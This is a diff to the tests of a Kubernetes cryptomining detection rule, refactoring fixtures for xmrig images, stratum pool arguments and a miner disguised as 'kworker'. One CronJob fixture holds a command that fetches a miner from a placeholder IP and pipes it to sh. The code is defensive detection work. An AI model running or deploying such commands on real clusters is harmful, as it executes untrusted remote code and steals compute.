@@ -2,7 +2,7 @@ import { type AuditEvent } from '../../kubernetes/auditEvent';
 import { type ContainerView, objectName, WORKLOAD_RESOURCES, workloadContainers } from '../../kubernetes/workloads';
 import { type DetectionContext } from '../detectionContext';
 import { type AlertEntity, EntityType } from '../entities';
-import { auditEvent, container, cronJobObject, podObject, workloadObject } from '../exampleEvents';
+import { container, workloadEvent } from '../exampleEvents';
 import { isSystemRequest } from '../predicates/identities';
 import { commandLineOf, imagesOf } from '../predicates/podSecurity';
 import { isResource, isWrite, namespaceOf, succeeded } from '../predicates/requests';
@@ -40,6 +40,7 @@ function minerContainers(event: AuditEvent, context: DetectionContext): MinerCon
 }
 
 const miner = (fields: Record<string, unknown>) => container({ name: 'worker', ...fields });
+const xmrig = () => miner({ image: 'docker.io/metal3d/xmrig:latest' });
 
 export const miningContainerImage = defineRule({
   id: 'mining-container-image',
@@ -92,80 +93,43 @@ export const miningContainerImage = defineRule({
     {
       name: 'a deployment runs an xmrig image',
       expect: 'alert',
-      event: auditEvent({
-        verb: 'create',
-        resource: 'deployments',
-        apiGroup: 'apps',
-        namespace: 'default',
-        requestObject: workloadObject('deployments', { containers: [miner({ image: 'docker.io/metal3d/xmrig:latest' })] }, 'worker'),
-      }),
+      event: workloadEvent('deployments', { containers: [xmrig()] }, { name: 'worker' }),
     },
     {
       name: 'a pod runs a plain image with a stratum pool address in its args',
       expect: 'alert',
-      event: auditEvent({
-        verb: 'create',
-        resource: 'pods',
-        namespace: 'default',
-        requestObject: podObject({
-          containers: [
-            miner({
-              image: 'docker.io/library/ubuntu:22.04',
-              command: ['/tmp/.cache/kworker'],
-              args: ['-o', 'stratum+tcp://pool.example.net:3333', '-u', '4AbCdEf', '--donate-level=1'],
-            }),
-          ],
-        }),
+      event: workloadEvent('pods', {
+        containers: [
+          miner({
+            image: 'docker.io/library/ubuntu:22.04',
+            command: ['/tmp/.cache/kworker'],
+            args: ['-o', 'stratum+tcp://pool.example.net:3333', '-u', '4AbCdEf', '--donate-level=1'],
+          }),
+        ],
       }),
     },
     {
       name: 'a CronJob downloads and starts a miner in its init container',
       expect: 'alert',
-      event: auditEvent({
-        verb: 'create',
-        resource: 'cronjobs',
-        apiGroup: 'batch',
-        namespace: 'default',
-        requestObject: cronJobObject({
-          initContainers: [
-            miner({ name: 'fetch', image: 'docker.io/library/alpine:3.20', command: ['sh', '-c', 'wget -qO- http://203.0.113.7/xmrig | sh'] }),
-          ],
-          containers: [container()],
-        }),
+      event: workloadEvent('cronjobs', {
+        initContainers: [miner({ name: 'fetch', image: 'docker.io/library/alpine:3.20', command: ['sh', '-c', 'wget -qO- http://203.0.113.7/xmrig | sh'] })],
+        containers: [container()],
       }),
     },
     {
       name: 'an ordinary deployment',
       expect: 'none',
-      event: auditEvent({
-        verb: 'create',
-        resource: 'deployments',
-        apiGroup: 'apps',
-        namespace: 'shop',
-        requestObject: workloadObject('deployments', { containers: [container({ args: ['--port', '8080'] })] }),
-      }),
+      event: workloadEvent('deployments', { containers: [container({ args: ['--port', '8080'] })] }, { namespace: 'shop' }),
     },
     {
       name: 'the replicaset controller creates the pod of a miner deployment',
       expect: 'none',
-      event: auditEvent({
-        verb: 'create',
-        resource: 'pods',
-        namespace: 'default',
-        user: 'system:serviceaccount:kube-system:replicaset-controller',
-        requestObject: podObject({ containers: [miner({ image: 'docker.io/metal3d/xmrig:latest' })] }),
-      }),
+      event: workloadEvent('pods', { containers: [xmrig()] }, { user: 'system:serviceaccount:kube-system:replicaset-controller' }),
     },
     {
       name: 'a miner pod the API server refused',
       expect: 'none',
-      event: auditEvent({
-        verb: 'create',
-        resource: 'pods',
-        namespace: 'default',
-        code: 403,
-        requestObject: podObject({ containers: [miner({ image: 'docker.io/metal3d/xmrig:latest' })] }),
-      }),
+      event: workloadEvent('pods', { containers: [xmrig()] }, { code: 403 }),
     },
   ],
 });
